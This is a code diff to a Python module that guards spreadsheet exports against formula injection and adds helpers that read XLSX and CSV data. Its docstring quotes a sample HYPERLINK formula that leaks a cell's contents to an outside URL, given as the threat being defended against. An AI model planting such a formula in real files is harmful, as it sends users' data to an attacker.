@@ -1,4 +1,5 @@
-"""Every CSV and XLSX the platform writes goes through here, so that no cell starts a formula.
+"""Every CSV and XLSX the platform writes goes through here, so that no cell starts a formula;
+and the few it reads (a round's import), so that one module holds the formats' libraries.
 
 A voter's question, a name or an answer can begin with ``=``, ``+``, ``-`` or ``@``; a
 spreadsheet that opens the file would run it (``=HYPERLINK("http://…?leak="&A1, …)`` sends
@@ -25,7 +26,7 @@ import unicodedata
 from collections.abc import Iterable, Sequence
 from io import BytesIO, StringIO
 
-from openpyxl import Workbook
+from openpyxl import Workbook, load_workbook
 from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 from openpyxl.styles import Font
 from openpyxl.worksheet.worksheet import Worksheet
@@ -112,3 +113,25 @@ def _append(sheet: Worksheet, row: Sequence[Cell]) -> None:
     for cell in sheet[sheet.max_row]:
         if isinstance(cell.value, str):
             cell.data_type = "s"
+
+
+class NotAWorkbook(ValueError):
+    """The bytes given are not an XLSX workbook openpyxl can read."""
+
+
+def read_workbook(data: bytes) -> dict[str, list[tuple]]:
+    """Each sheet's rows of values (the values, not formulas: a formula cell gives what it
+    last computed), by sheet name."""
+    try:
+        book = load_workbook(BytesIO(data), read_only=True, data_only=True)
+    except Exception as error:  # openpyxl raises many kinds for a file that is not a workbook
+        raise NotAWorkbook(str(error)) from error
+    try:
+        return {name: list(book[name].iter_rows(values_only=True)) for name in book.sheetnames}
+    finally:
+        book.close()
+
+
+def read_csv_rows(text: str, delimiter: str) -> list[list[str]]:
+    """The rows of a CSV text."""
+    return list(csv.reader(StringIO(text, newline=""), delimiter=delimiter))
